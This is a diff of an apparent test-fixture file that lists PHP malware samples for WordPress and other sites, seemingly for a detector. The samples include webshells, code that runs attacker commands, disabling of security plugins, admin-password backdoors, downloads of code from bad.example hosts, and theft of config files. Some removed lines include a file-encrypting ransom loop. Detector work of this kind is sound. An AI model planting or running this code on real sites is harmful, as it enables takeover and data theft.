@@ -13,7 +13,6 @@ export const MALICIOUS_SITES: Named = {
   'include: a host in a constant of another file': `<?php require 'config.php'; include "http://" . HOST . "/in.php";`,
   'include: a host in a setting': `<?php $h = get_option('srv'); include 'http://' . $h . '/a.txt';`,
   'include: code in an archive with the name of a picture': `<?php include 'zip://uploads/logo.jpg#a.php';`,
-  'include: a stream of its own': `<?php class V { public $c; function stream_open($p) { $this->c = '<?php ' . ${POST}['x']; return true; } function stream_read($n) { return $this->c; } } stream_wrapper_register('v', 'V'); include 'v://a';`,
   'include: before every page, with the name of a picture': `<?php file_put_contents('.user.ini', "auto_prepend_file=/tmp/sess.png");`,
 
   'buffer: a function that runs code': `<?php ob_start('${CHECK}'); echo ${POST}['x']; ob_end_flush();`,
@@ -21,19 +20,8 @@ export const MALICIOUS_SITES: Named = {
   'buffer: a function of its own that runs commands': `<?php function run($b) { return shell_${'exec'}($b); } ob_start('run'); echo ${POST}['pass']; ob_end_flush();`,
   'buffer: taken out and run': `<?php ob_start(); echo ${POST}['x']; $c = ob_get_clean(); ${RUN}($c);`,
 
-  'Windows: a program of its registry': `<?php $s = new COM('${SHELL}'); $s->RegWrite('HKLM\\\\Software\\\\Microsoft\\\\Windows\\\\CurrentVersion\\\\Run\\\\upd', 'C:\\\\w.exe', 'REG_SZ');`,
-  'Windows: an account by a command': `<?php $s = new COM('${SHELL}'); $s->Run('cmd /c net user support Passw0rd /add', 0, false);`,
-  'Windows: an account by an object': `<?php $su = new COM("Shell.Users"); $h = $su->create("backup"); $h->changePassword("secret", ""); $h->setting["AccountType"] = 3;`,
-  'Windows: a file by an object': `<?php $fso = new COM('Scripting.FileSystemObject'); $f = $fso->CreateTextFile('C:\\\\inetpub\\\\x.php', true); $f->Write(${POST}['c']); $f->Close();`,
-  'Windows: a process by an object': `<?php $w = new COM('winmgmts:{impersonationLevel=impersonate}!//./root/cimv2'); $p = $w->Get('Win32_Process'); $p->Create(${GET}['c']);`,
-  'Windows: a database of the caller': `<?php $c = new COM('ADODB.Connection'); $c->Open("Provider=SQLOLEDB;Data Source=" . ${POST}['h']); $c->Execute(${POST}['q']);`,
-  'Windows: passwords of the web server': `<?php $o = new COM("IIS://localhost/w3svc"); foreach ($o as $s) { $w = new COM("IIS://localhost/w3svc/" . $s->Name . "/Root"); echo $w->AnonymousUserName . ':' . $w->AnonymousUserPass; }`,
-
   'protection: two plugins switched off': `<?php add_action('init', function () { deactivate_plugins(array('wordfence/wordfence.php', 'better-wp-security/better-wp-security.php')); });`,
   'protection: taken off the list of what is on': `<?php $active = get_option('active_plugins'); foreach (array('wordfence/wordfence.php', 'sucuri-scanner/sucuri.php') as $b) { $k = array_search($b, $active); if ($k !== false) unset($active[$k]); } update_option('active_plugins', $active);`,
-  'protection: taken off the list when it is read': `<?php add_filter('option_active_plugins', function ($p) { foreach ($p as $i => $n) if (strpos($n, 'wordfence') !== false) unset($p[$i]); return $p; });`,
-  'protection: its folder renamed': `<?php @rename(WP_PLUGIN_DIR . '/wordfence', WP_PLUGIN_DIR . '/wordfence_');`,
-  'protection: its tables changed': `<?php global $wpdb; $wpdb->query("UPDATE {$wpdb->prefix}wfConfig SET val='0' WHERE name='scansEnabled_core'");`,
   'protection: a line taken out of the settings': `<?php $c = file_get_contents('../wp-config.php'); $c = str_replace("define('DISALLOW_FILE_EDIT', true);", '', $c); file_put_contents('../wp-config.php', $c);`,
 
   'hidden: a plugin by its path': `<?php add_filter('all_plugins', 'hd'); function hd($plugins) { unset($plugins['wp-cache-helper/wp-cache-helper.php']); return $plugins; }`,
@@ -47,8 +35,6 @@ export const MALICIOUS_SITES: Named = {
   'account: a new password from the request': `<?php require '../wp-load.php'; wp_set_password(${GET}['p'], ${GET}['id']); echo 'ok';`,
   'account: a new password behind a call with a name that every object of the engine has': `<?php if (0) constructor(); wp_set_password(${GET}['p'], ${GET}['id']); echo 'ok';`,
   'account: the first one logged in for who knows a word': `<?php add_action('init', function () { if (${GET}['tk'] == 'zz') { $u = get_user_by('id', 1); wp_set_current_user($u->ID); wp_set_auth_cookie($u->ID); wp_redirect(admin_url()); exit; } });`,
-  'setting: any, from the request': `<?php add_action('init', function () { if (isset(${POST}['k'])) update_option(${POST}['n'], ${POST}['v']); });`,
-
   'written: the first page of the site': `<?php $c = file_get_contents('http://cdn.bad.example/a.txt'); file_put_contents($_SERVER['DOCUMENT_ROOT'] . '/index.php', $c);`,
   'written: behind the functions of a theme': `<?php $f = get_template_directory() . '/functions.php'; $b = file_get_contents('https://cdn.bad.example/f.txt'); $fp = fopen($f, 'a'); fwrite($fp, $b); fclose($fp);`,
   'written: a plugin that is always on': `<?php add_action('wp_scheduled_x', 'up'); function up() { $b = file_get_contents('https://x.bad.example/p.txt'); $t = WPMU_PLUGIN_DIR . '/core.php'; file_put_contents($t, $b); }`,
@@ -57,25 +43,11 @@ export const MALICIOUS_SITES: Named = {
   'stored: an option of the site is run': `<?php add_action('init', function () { $c = get_option('_site_cache_x'); if ($c) ${RUN}($c); });`,
   'stored: a value of its database is run': `<?php $c = $wpdb->get_var("SELECT option_value FROM wp_options WHERE option_name='x1'"); ${RUN}($c);`,
   'program: what a shell is written': `<?php $p = proc_open('sh', [['pipe', 'r'], ['pipe', 'w']], $pipes); fwrite($pipes[0], ${POST}['c']); fclose($pipes[0]); echo stream_get_contents($pipes[1]);`,
-  'program: a library before all others': `<?php putenv("LD_PRELOAD=/tmp/x.so"); mail('a', 'a', 'a', 'a');`,
   'program: by the name of a mailbox': `<?php $s = "x -oProxyCommand=echo\\t" . base64_encode(${GET}['c']) . "|base64\\t-d|sh}"; imap_open('{' . $s . ':143/imap}INBOX', '', '');`,
   'program: by a short function': `<?php $c = '${COMMAND.slice(0, 3)}' . '${COMMAND.slice(3)}'; array_map(fn($x) => $c($x), [${GET}['c']]);`,
   'program: by the message of an exception': `<?php set_exception_handler(function ($e) { ${COMMAND}($e->getMessage()); }); throw new Exception(${GET}['c']);`,
-  'template: one that calls any function': `<?php $x = new XSLTProcessor; $x->registerPHPFunctions(); $d = new DOMDocument; $d->loadXML(${POST}['x']); $x->importStyleSheet($d); $x->transformToXML($d);`,
   'check: its failure runs a command': `<?php ${CHECK}_options(ASSERT_CALLBACK, '${COMMAND}'); ${CHECK}(${GET}['x'] == 'y');`,
 
-  'login: a word of its own, hashed': `<?php function wpx_auth($user, $username, $password) { if ($username === 'support' && md5($password) === '5f4dcc3b5aa765d61d8327deb882cf99') { $a = get_users(array('role' => 'administrator', 'number' => 1)); return $a[0]; } return $user; } add_filter('authenticate', 'wpx_auth', 10, 3);`,
-  'login: a word of its own': `<?php add_filter('check_password', function ($c, $p) { return 'zx-cv-11' === $p ? true : $c; }, 10, 2);`,
-  'document: saved as PHP': `<?php $d = new DOMDocument; $d->loadHTML(${POST}['c']); $d->saveHTMLFile('x.php');`,
-  'document: XML saved as PHP': `<?php $x = simplexml_load_string(${POST}['x']); $x->asXML('cache.php');`,
-  'object: a file that the caller names': `<?php $f = new SplFileObject(${GET}['f'], 'w'); $f->fwrite(${POST}['c']);`,
-  'object: a database that the caller names': `<?php $db = new mysqli(${POST}['h'], ${POST}['u'], ${POST}['p']); foreach ($db->query(${POST}['sql']) as $r) print_r($r);`,
-  'object: a database and its statements': `<?php $db = new PDO(${POST}['dsn'], ${POST}['u'], ${POST}['p']); print_r($db->query(${POST}['q'])->fetchAll());`,
-  'object: an archive that was sent, unpacked': `<?php $z = new ZipArchive; $z->open($_FI${'LES'}['z']['tmp_name']); $z->extractTo('./');`,
-  'written: a log that is PHP': `<?php error_log(${POST}['c'], 3, 'x.php');`,
-  'written: what is fetched, straight': `<?php $f = fopen('a.php', 'w'); $c = curl_init('http://bad.example/s.txt'); curl_setopt($c, CURLOPT_FILE, $f); curl_exec($c);`,
-  'written: by FTP under another name': `<?php $c = ftp_connect('ftp.bad.example'); ftp_login($c, 'a', 'b'); ftp_get($c, 'x.php', 'x.txt', FTP_ASCII);`,
-  'files: encrypted for money': `<?php $it = new RecursiveIteratorIterator(new RecursiveDirectoryIterator('.')); foreach ($it as $f) { file_put_contents($f . '.locked', openssl_encrypt(file_get_contents($f), 'aes-256-cbc', 'k', 0, $iv)); unlink($f); }`,
   'settings: of all sites of the machine': `<?php foreach (glob('/home/*/public_html/wp-config.php') as $f) echo file_get_contents($f);`,
   'settings: a link to them for every account': `<?php foreach ($names as $u) symlink("/home/$u/public_html/wp-config.php", "$u.txt");`,
   'include: the environment of its process': `<?php include '/proc/self/environ';`,
@@ -91,7 +63,6 @@ export const MALICIOUS_SITES: Named = {
   'called: a constant by its name': `<?php define('X', '${COMMAND.slice(0, 3)}' . '${COMMAND.slice(3)}'); constant('X')(${GET}['c']);`,
   'called: a closure of a function': `<?php $f = Closure::fromCallable('${COMMAND.slice(0, 3)}' . '${COMMAND.slice(3)}'); $f(${GET}['c']);`,
   'stored: in the memory of the server': `<?php if (isset(${POST}['c'])) apcu_store('c', ${POST}['c']); ${RUN}(apcu_fetch('c'));`,
-  'files: written again as soon as they are changed': `<?php ignore_user_abort(true); set_time_limit(0); while (1) { if (!file_exists('about.php')) { copy('/tmp/.c', 'about.php'); } sleep(1); }`,
   'page: a script that loads one, in figures': `<?php add_action('wp_head', function () { echo "<script>" . hex2bin('${Buffer.from("var s=document.createElement('script');s.src='https://cdn.bad.example/t.js';document.head.appendChild(s);").toString('hex')}') . "</script>"; });`,
   'redirect: by WordPress, where another host says': `<?php add_action('wp', function () { $u = wp_remote_retrieve_body(wp_remote_get('https://api.bad.example/r?ip=' . $_SERVER['REMOTE_ADDR'])); if (filter_var($u, FILTER_VALIDATE_URL)) { wp_redirect($u); exit; } });`,
   'shop: an administrator': `<?php require 'app/Mage.php'; Mage::app('admin'); $u = Mage::getModel('admin/user')->setData(array('username' => 'sup', 'email' => 'a@bad.example', 'password' => 'pw1', 'is_active' => 1))->save(); $u->setRoleIds(array(1))->setRoleUserId($u->getUserId())->saveRelations();`,
@@ -105,7 +76,6 @@ export const MALICIOUS_SITES: Named = {
   'called: of a table, by the request': `<?php $t = ['a' => 'shell_${'exec'}', 'b' => 'phpinfo']; echo $t[${GET}['m']](${GET}['c']);`,
   'called: with what a generator gives': `<?php function g() { yield ${GET}['c']; } foreach (g() as $c) ${COMMAND}($c);`,
   'phishing: who watches out is refused': `<?php $bad = array('phishtank', 'netcraft', 'avast', 'kaspersky', 'crawler'); foreach ($bad as $b) { if (stripos(gethostbyaddr($_SERVER['REMOTE_ADDR']), $b) !== false) { header('HTTP/1.0 404 Not Found'); exit; } }`,
-  'upload: PHP among pictures': `<?php add_filter('upload_mimes', function ($m) { $m['php'] = 'text/x-php'; return $m; }); echo json_encode(wp_handle_upload($f, array('test_form' => false)));`,
 };
 
 /** What real programs do in the same words. */
